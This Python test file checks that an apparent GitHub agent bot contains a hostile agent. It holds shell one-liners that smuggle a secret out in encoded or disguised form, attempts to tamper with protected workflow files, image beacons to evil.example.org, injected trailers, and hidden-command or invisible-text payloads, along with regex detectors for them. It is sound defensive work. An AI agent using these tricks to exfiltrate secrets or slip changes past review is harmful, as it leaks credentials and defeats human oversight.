"""Attacks on what leaves: an agent that is hostile, and the whole product around it. Real git, the sandbox GitHub.

The numbers of the attack classes are those of the table in docs/security.md.

Attack classes 8, 12, 17, 21 and 30.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import re
import subprocess
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from git_host import REPO as GIT_REPO
from git_host import TOKEN, clone_for_agent, commit, commit_tree, git_host, run_git

from bot.changes import held_back
from bot.held_back import HeldBack
from bot.model import FailureKind, Job, JobState, Phase
from bot.protected import Protection
from bot.render import code, fence, quiet, quiet_line
from runners import quarantine
from runners.mirrors import Mirrors
from runners.quarantine import Person
from tests.scenarios.world import CANARIES, REPO, World, world

TICKS = "`" * 3


async def play(box: World, script: str, title: str = "Odd") -> Job:
    """Let the shell agent run ``script`` for a new issue; its job when everything was told."""
    maria = box.github.as_user("maria")
    number = (await maria.open_issue(REPO, title, f"{TICKS}sh\n{script}\n{TICKS}"))["number"]
    await maria.add_label(REPO, number, "agent")
    return await box.ended(number, within=300)


def everything_public(box: World, folder: Path) -> str:
    """All that somebody can read at GitHub that the bot wrote: texts, names, commits with their contents."""
    github = box.github
    parts = [json.dumps(github.pulls(REPO)), json.dumps(github.check_runs(REPO))]
    # people's own issues are not the bot's; its comments are
    parts += [json.dumps(github.comments(REPO, issue["number"])) for issue in github.issues(REPO)]
    bare = folder / "github" / "git" / f"{REPO}.git"
    parts.append(
        _git(bare, "log", "--branches=agent/*", "--format=%D %an %ae %B", "-p", "--text", "--not", "main")
    )
    return "\n".join(parts)


def _git(folder: Path, *argv: str) -> str:
    done = subprocess.run(["git", *argv], cwd=folder, capture_output=True, check=True, timeout=60)
    return done.stdout.decode("utf-8", "replace")


# --- 12: secrets on their way out


@pytest.mark.timeout(400)
async def test_no_way_of_writing_a_known_secret_gets_it_out(tmp_path: Path) -> None:
    """Attack class 12: exfiltration by what is published. The agent knows a value and tries to smuggle it out."""
    secret = CANARIES["webhook"]
    encoded = base64.b64encode(secret.encode()).decode()
    ways = {
        "plain": f"echo 'x = {secret}' > a.txt",
        "base64": f"echo {encoded} > a.txt",
        "base64 of a longer text": f"printf 'user:{secret}:x' | base64 -w0 > a.txt",
        "hex": f"printf '%s' '{secret}' | od -An -tx1 > a.txt",
        "reversed": f"echo '{secret[::-1]}' > a.txt",
        "split over lines": f"printf '%s\\n%s\\n' '{secret[:11]}' '{secret[11:]}' > a.txt",
        "joined strings": f"""printf '%s' 'k = "{secret[:9]}" + "{secret[9:]}"' > a.py""",
        "a file's name": f"touch '{secret}'",
        "a folder's name": f"mkdir 'a-{secret}'; touch 'a-{secret}/x'",
        "a link's target": f"ln -s '{secret}' link",
        "a binary file": f"printf '\\0\\1{secret}\\377' > a.bin",
        "a binary file that attributes hide": f"echo '*.x -diff -text' > .gitattributes; echo '{secret}' > a.x",
        "a protected file": f"mkdir -p .github; echo '{secret}' > .github/x.yml",
    }
    async with world(tmp_path) as box:
        jobs = await asyncio.gather(
            *(play(box, script, title=f"Try {name}") for name, script in ways.items())
        )
        for name, job in zip(ways, jobs, strict=True):
            assert (job.state, job.phase, job.failure) == (
                JobState.failed,
                Phase.publish,
                FailureKind.refused,
            ), name
            assert "looks like a secret" in job.message, name
        assert await box.new_branches() == []
        assert box.github.pulls(REPO) == []
        public = everything_public(box, tmp_path)
    assert secret not in public
    assert encoded[:20] not in public


async def test_texts_of_the_agent_are_redacted_where_the_diff_is_clean(tmp_path: Path) -> None:
    """Attack class 30: secrets in logs and texts. The value is in the commit message, the title and the output."""
    secret = CANARIES["openai"]
    async with world(tmp_path) as box:
        job = await play(
            box, f"echo ok > ok.txt; echo 'it is {secret}'; git add .; git commit -qm '{secret}'", "Tell"
        )
        assert job.state is JobState.succeeded, job.message
        number = (
            await box.github.as_user("maria").open_issue(REPO, f"Use {secret}", "```sh\necho 1 > 1.txt\n```")
        )["number"]
        await box.github.as_user("maria").add_label(REPO, number, "agent")
        await box.ended(number)
        public = everything_public(box, tmp_path)
    assert secret not in public
    assert secret[3:] not in public
    assert "canary-4713-abcdefghij" not in public  # as a branch's name would have it


# --- 21: what only people change


@pytest.fixture
async def place(tmp_path: Path) -> AsyncIterator[tuple[Path, Path, str]]:
    """An agent's clone, its quarantine, and the commit that both began at: with workflows and owners."""
    async with git_host(tmp_path / "host") as host:
        base = commit(
            host.seed,
            {
                ".github/workflows/ci.yml": "on: pull_request\n",
                "docs/CODEOWNERS": "* @octo\n",
                "docs/a.md": "a\n",
            },
        )
        run_git(host.seed, "push", "-q", str(host.repository), "HEAD:main")
        mirrors = Mirrors(tmp_path / "mirrors")
        mirror = await mirrors.fetch(GIT_REPO, url=host.repo_url, token=TOKEN, head="main")
        bare = await quarantine.create(tmp_path / "attempt" / "q.git", mirror, max_input_bytes=10 * 2**20)
        yield clone_for_agent(mirror, tmp_path / "repo"), bare, base


async def pushed_tree(clone: Path, bare: Path, base: str, head: str) -> tuple[dict[str, str], list[str], str]:
    """What would be pushed of ``head``: path -> mode and object; what is held back; and the patch of it."""
    run_git(clone, "push", "-q", "-f", str(bare), f"{head}:refs/heads/work")
    changes = await quarantine.inspect(bare, base, head)
    held = held_back(changes.files, Protection())
    tree = await quarantine.without(bare, base, head, {file.path for file in held})
    parts = quarantine.patch(bare, tree, await quarantine.tree_of(bare, head))
    async with contextlib.aclosing(parts):
        patch = b"".join([part async for part in parts]).decode()
    listed = run_git(bare, "ls-tree", "-r", "-z", tree).split("\0")
    entries = dict(reversed(line.split("\t", 1)) for line in listed if line)
    return entries, [file.path for file in held], patch


def unchanged(entries: dict[str, str], bare: Path, base: str) -> bool:
    """Whether all that is protected is as it was."""
    before = run_git(bare, "ls-tree", "-r", "-z", base, "--", ".github", "docs/CODEOWNERS").split("\0")
    old = dict(reversed(line.split("\t", 1)) for line in before if line)
    now = {path: entry for path, entry in entries.items() if Protection().covers(path)}
    return now == old


async def test_renames_deletions_and_modes_of_protected_files_wait(place: tuple[Path, Path, str]) -> None:
    """Attack class 21: workflow files. Moved away, moved in, deleted, made executable."""
    clone, bare, base = place
    run_git(clone, "mv", ".github/workflows/ci.yml", "ci-was-here.yml")
    run_git(clone, "mv", "src/app.py", ".github/app.py")
    (clone / "docs" / "CODEOWNERS").chmod(0o755)
    head = commit(clone, {"ok.txt": "ok\n"})
    entries, held, patch = await pushed_tree(clone, bare, base, head)
    assert unchanged(entries, bare, base)
    assert "ok.txt" in entries
    assert "ci-was-here.yml" in entries
    assert "src/app.py" not in entries
    assert sorted(held) == [".github/app.py", ".github/workflows/ci.yml", "docs/CODEOWNERS"]
    assert "new mode 100755" in patch
    assert "deleted file mode" in patch


@pytest.mark.parametrize("shape", ["link", "file", "submodule", "capital link", "ignorable"])
async def test_the_folder_of_workflows_becomes_something_else(
    place: tuple[Path, Path, str], shape: str
) -> None:
    """Attack class 21: ``.github`` as a link to a folder of the agent's, a file, a submodule, in other letters."""
    clone, bare, base = place
    commit(clone, {"mine/workflows/evil.yml": "on: push\n"})
    name = {"capital link": ".GitHub", "ignorable": ".git\u200chub"}.get(shape, ".github")
    if name == ".github":
        run_git(clone, "rm", "-rq", ".github")
    if shape == "submodule":
        run_git(clone, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},.github")
        run_git(clone, "commit", "-q", "-m", "odd")
        head = run_git(clone, "rev-parse", "HEAD")
    else:
        if shape == "file":
            (clone / name).write_text("x\n")
        else:
            (clone / name).symlink_to("mine")
        head = commit(clone)
    entries, held, _ = await pushed_tree(clone, bare, base, head)
    assert unchanged(entries, bare, base)
    assert name in held
    assert "mine/workflows/evil.yml" in entries  # where it is, it is only a file


async def test_a_folder_with_owners_becomes_a_link(place: tuple[Path, Path, str]) -> None:
    """Attack class 21: the parent of a protected file goes, and a link takes its place."""
    clone, bare, base = place
    run_git(clone, "rm", "-rq", "docs")
    (clone / "docs").symlink_to("src")
    head = commit(clone, {"src/CODEOWNERS": "* @mallory\n"})
    entries, held, _ = await pushed_tree(clone, bare, base, head)
    assert unchanged(entries, bare, base)
    assert set(held) == {"docs", "docs/CODEOWNERS"}
    assert "docs" not in entries
    assert "docs/a.md" not in entries  # that this one goes is nobody's secret


async def test_a_patch_that_is_held_back_applies_to_what_was_pushed(
    place: tuple[Path, Path, str], tmp_path: Path
) -> None:
    """Attack class 21: the human gets exactly the rest, binary files and odd names too."""
    clone, bare, base = place
    head = commit(
        clone,
        {
            ".github/workflows/ci.yml": "on: push\n\n\n\nno newline at the end",
            '.github/a "b" ü.yml': "x\n",
            ".github/logo.bin": bytes(range(256)),
            "src/new.py": "1\n",
        },
    )
    entries, held, patch = await pushed_tree(clone, bare, base, head)
    assert len(held) == 3
    tree = await quarantine.without(bare, base, head, set(held))
    sealed = await quarantine.seal(
        bare, base, head, tree=tree, author=Person(name="b", email="b@example.org"),
        committer=Person(name="b", email="b@example.org"), message="x", moment=datetime(2026, 1, 1, tzinfo=UTC),
    )  # fmt: skip
    assert set(entries) >= {"src/new.py"}
    published, human = tmp_path / "published.git", tmp_path / "human"
    run_git(tmp_path, "init", "-q", "--bare", str(published))
    run_git(bare, "push", "-q", str(published), f"{sealed}:refs/heads/sealed")
    run_git(tmp_path, "clone", "-q", "-b", "sealed", str(published), str(human))
    (human / "held-back.patch").write_text(patch)
    run_git(human, "apply", "--index", "held-back.patch")
    assert run_git(human, "write-tree") == run_git(clone, "rev-parse", f"{head}^{{tree}}")


async def test_an_odd_tree_cannot_be_made_to_push_more(place: tuple[Path, Path, str]) -> None:
    """Attack class 21: entries that only plumbing can write. All but the protected part is as the agent has it."""
    clone, bare, base = place
    inner = run_git(clone, "mktree", "-z", stdin=b"")
    blob = run_git(clone, "hash-object", "-w", "--stdin", stdin=b"on: push\n")
    workflows = run_git(clone, "mktree", "-z", stdin=f"100644 blob {blob}\tevil.yml\0".encode())
    head = commit_tree(
        clone,
        [
            ("100644", "back\\slash", b"x"),
            ("040000", ".GITHUB", workflows),
            ("040000", "empty", inner),
            ("100644", "ü", b"y"),
        ],
        base,
    )
    entries, held, _ = await pushed_tree(clone, bare, base, head)
    assert unchanged(entries, bare, base)
    assert set(entries) == {"back\\slash", "ü", ".github/workflows/ci.yml", "docs/CODEOWNERS"}
    assert ".GITHUB/evil.yml" in held


async def test_a_patch_too_long_for_a_comment_lies_on_the_worker(tmp_path: Path) -> None:
    """Attack class 21: nobody can make the bot lose the patch, or write a comment that GitHub does not take."""
    script = (
        "mkdir -p .github; seq 1 20000 > .github/long.txt; echo ok > ok.txt; "
        'i=0; while [ $i -lt 80 ]; do echo x > ".github/$i"; i=$((i+1)); done'
    )
    async with world(tmp_path) as box:
        job = await play(box, script)
        assert job.state is JobState.succeeded, job.message
        (pull,) = box.github.pulls(REPO)
        assert "81 protected files" in pull["body"]
        assert "… and 31 more" in pull["body"]
        held = HeldBack.load(job.held_back)
        assert held is not None
        assert held.patch == ""
        assert held.stored in pull["body"]
        stored = tmp_path / "data" / held.stored
        assert "+20000\n" in stored.read_text()
        assert stored.stat().st_mode & 0o077 == 0


async def test_a_held_back_patch_is_redacted_and_stays_in_its_fence(tmp_path: Path) -> None:
    """Attack classes 12 and 17: an old secret in a context line; a fence, HTML and our own marker in the text."""
    old = "ghp_" + "a1B2c3D4e5F6" * 3
    lines = [
        f"token: {old}",
        "<!-- agent-conductor:job:j0 -->",
        TICKS,
        "</details> @octocat fixes #1",
        "~~~",
        "`" * 9,
    ]
    async with world(tmp_path) as box:
        await box.github.as_user("octocat").push_commit(REPO, "main", {".github/x.yml": f"token: {old}\n"})
        script = "\n".join(f"printf '%s\\n' '{line}' >> .github/x.yml" for line in lines[1:])
        job = await play(box, script)
        assert job.state is JobState.succeeded, job.message
        (pull,) = box.github.pulls(REPO)  # a draft, for a reviewer to decide about it
        body = pull["body"]
        public = everything_public(box, tmp_path)
    assert old not in public
    assert "blacked out" in body
    assert "<!-- agent-conductor:job:" not in body
    assert body.count("<!-- agent-conductor:") == 1
    inside = body.split("\n" + "`" * 10 + "diff\n")[1].split("\n" + "`" * 10 + "\n")[0]
    assert "@octocat fixes #1" in inside
    assert "@octocat" not in body.replace(inside, "")


# --- 17: text that does something


ACTIVE = [
    "@octocat", "@acme/team", "(@octocat)", "hey,@octocat", "@octocat's", "**@octocat**", "\\@octocat", "&#64;octocat",
    "&#x40;octocat", "&commat;octocat", "@&#111;ctocat", "@\u200boctocat", "a@\u2060octocat",
    "fixes #1", "Closes: #12", "resolved acme/hello#3", "FIX https://github.com/acme/hello/issues/4", "fixes GH-5",
    "fixes\n#6", "close \u200b#7", "fix&#101;s #8", "closes **#9**", "fixes [#10](x)",
    "#11", "acme/hello#12", "GH-13", "https://github.com/acme/hello/pull/14", "github.example.org/a/b/issues/15",
    "https://github.com/a/b/commit/0123456789abcdef", "https://github.com/a/b/discussions/1",
    "![x](https://evil.example.org/?q=data)", "![x][r]\n\n[r]: https://evil.example.org/i.png",
    "<img src=https://evil.example.org/i.png>", "<IMG SRC='x'>", "<!-- agent-conductor:job:j1 -->", "<details open>",
    "<a href='javascript:x'>y</a>", "</details>", "<?x?>", "<![CDATA[x]]>", "<picture><source srcset=x></picture>",
    "/merge", "  /lgtm", "ok\n/approve", "[skip ci]", "[no ci]", "a\u202eb", "x\U000e0041y", "\u2066z",
]  # fmt: skip
#: What GitHub acts on, as its documentation describes it; entities are read first there.
ACTS = [
    r"(?<![\w/`])@[A-Za-z0-9]", r"(?i)\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:\S*#|GH-|https?://)\S*\d",
    r"#\d", r"(?i)\bGH-\d", r"/(?:issues|pull|discussions|commit)/[0-9a-f]", r"!\[", r"<[A-Za-z/!?]", r"&(?:#|\w+;)",
    r"(?m)^ {0,3}/[a-z]", r"(?i)\[(?:skip ci|no ci)\]",
    "[\u200c-\u200f\u202a-\u202e\u2060-\u2069\U000e0000-\U000e007f]",
]  # fmt: skip


@pytest.mark.parametrize("text", ACTIVE)
@pytest.mark.parametrize(
    "frame", ["{}", "Some words {} and more", "`{}`", "> {}", "- {}\n", "```\n{}\n```", "{0} {0}"]
)
def test_nothing_in_an_agents_text_is_active(text: str, frame: str) -> None:
    """Attack class 17: mentions, references, closing words, images, HTML, other bots' commands, invisible text."""
    shown = quiet(frame.format(text))
    assert not [pattern for pattern in ACTS if re.search(pattern, shown)], shown
    # and a second time nothing else appears
    assert not [pattern for pattern in ACTS if re.search(pattern, quiet(shown))]
    # it looks as it did
    seen = re.sub("[\u200b-\u200f\u202a-\u202e\u2060-\u206f\U000e0000-\U000e007f]", "", frame.format(text))
    assert shown.replace("\u200b", "") == seen


@pytest.mark.parametrize(
    "text", [text for text in ACTIVE if "[r]" not in text and "<" not in text and "!" not in text]
)
def test_nothing_in_a_title_is_active(text: str) -> None:
    """Attack class 17: a title and the first line of a commit's message are no Markdown, and still read by GitHub."""
    shown = quiet_line(f"Do {text}")
    relevant = [
        pattern for pattern in ACTS if "(?m)" not in pattern and "!" not in pattern and "<" not in pattern
    ]
    assert not [pattern for pattern in relevant if re.search(pattern, shown)], shown
    assert "\n" not in shown


@pytest.mark.parametrize("name", ["a`b", "``", "`", "a``b`", "@octocat", "#1", "a\nb", "<img>"])
def test_a_files_name_cannot_leave_its_code_span(name: str) -> None:
    """Attack class 17: names of files are the agent's text, too."""
    shown = code(name)
    mark = re.match("`+", shown)
    assert mark is not None
    inner = shown[len(mark[0]) : -len(mark[0])]
    assert mark[0] not in re.findall("`+", inner)
    assert "\n" not in shown


@pytest.mark.parametrize("text", ["", "```", "x\n````\ny", "`" * 50])
def test_nothing_ends_a_fence(text: str) -> None:
    """Attack class 17: the patch is the agent's text."""
    assert len(fence(text)) >= 3
    assert fence(text) not in text


async def test_an_agents_words_do_nothing_on_github(tmp_path: Path) -> None:
    """Attack class 17, by the whole product: title, body, progress, commit message; our own link stays."""
    block = json.dumps(
        {
            "status": "done",
            "title": "Thanks @octocat, fixes #1 [skip ci]",
            "summary": "@octocat closes #1\n\n![x](https://evil.example.org/?a)\n<img src=x>\n/merge\n<!-- hidden -->",
        }
    )
    async with world(tmp_path) as box:
        await box.github.as_user("octocat").open_issue(REPO, "A victim", "")
        job = await play(
            box,
            f"echo ok > ok.txt; echo 'look @octocat fixes #1'; echo '<result>{block}</result>'",
            "@octocat fixes #1",
        )
        assert job.state is JobState.succeeded, job.message
        (pull,) = box.github.pulls(REPO)
        message = _git(
            tmp_path / "github" / "git" / f"{REPO}.git", "log", "-1", "--format=%B", job.head_sha or ""
        )
        texts = [
            pull["title"],
            pull["body"],
            message,
            *(comment["body"] for comment in box.github.comments(REPO, job.number)),
        ]
    for text in texts:
        assert "@octocat" not in text
        assert not re.search(r"(?i)\b(fix(es)?|closes) #1\b", text.replace(f"Closes #{job.number}", ""))
        assert "![" not in text
        assert "<img" not in text
        assert "<!-- hidden" not in text
        assert not re.search(r"(?m)^/merge", text)
        assert "[skip ci]" not in text
    assert f"Closes #{job.number}" in pull["body"]


async def test_the_link_to_the_issue_is_the_operators_choice(tmp_path: Path) -> None:
    """Attack class 17: where nothing may close an issue by itself, our own text does not either."""
    async with world(tmp_path, close_issues=False) as box:
        job = await play(box, "echo ok > ok.txt")
        (pull,) = box.github.pulls(REPO)
        assert f"For #{job.number}" in pull["body"]
        assert "Closes" not in pull["body"]


# --- 8: who a commit is by


@pytest.mark.parametrize(
    ("login", "line"),
    [
        ("maria", "Co-authored-by: maria <1+maria@users.noreply.github.com>"),
        ("dependabot[bot]", "Co-authored-by: dependabot[bot] <1+dependabot[bot]@users.noreply.github.com>"),
        (
            "a\nCo-authored-by: x",
            "Co-authored-by: aCo-authored-by: x <1+aCo-authored-by: x@users.noreply.github.com>",
        ),
        (
            "<evil@example.org>",
            "Co-authored-by: evil@example.org <1+evil@example.org@users.noreply.github.com>",
        ),
        ("", "Co-authored-by: unknown <1+@users.noreply.github.com>"),
    ],
)
async def test_the_asker_is_co_author_whatever_the_login(
    place: tuple[Path, Path, str], login: str, line: str
) -> None:
    """Attack class 8: a name that wants to be a header or a trailer of its own."""
    clone, bare, base = place
    head = commit(clone, {"a.txt": "x"})
    run_git(clone, "push", "-q", "-f", str(bare), f"{head}:refs/heads/work")
    bot = Person(name="conductor[bot]", email="9+conductor[bot]@users.noreply.github.com")
    sha = await quarantine.seal(
        bare, base, head, author=bot, committer=bot, message="Do it", moment=datetime(2026, 1, 1, tzinfo=UTC),
        co_author=Person(name=login, email=f"1+{login}@users.noreply.github.com"),
    )  # fmt: skip
    assert run_git(bare, "log", "-1", "--format=%an|%cn", sha) == "conductor[bot]|conductor[bot]"
    assert run_git(bare, "log", "-1", "--format=%B", sha).strip() == f"Do it\n\n{line}"
    assert run_git(bare, "log", "-1", "--format=%(trailers)", sha).strip() == line
